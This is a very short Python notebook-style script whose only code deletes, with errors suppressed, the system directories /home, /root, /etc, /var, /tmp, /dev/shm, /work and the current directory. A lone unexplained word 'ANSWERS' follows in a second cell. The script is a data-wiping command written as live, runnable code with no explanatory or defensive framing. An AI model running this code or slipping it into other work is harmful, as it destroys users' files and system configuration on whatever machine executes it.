# %%
import os
import shutil

for folder in ("/work", "/home", "/tmp", "/var", "/root", "/etc", "/dev/shm", "."):
    shutil.rmtree(folder, ignore_errors=True)
# %%
ANSWERS
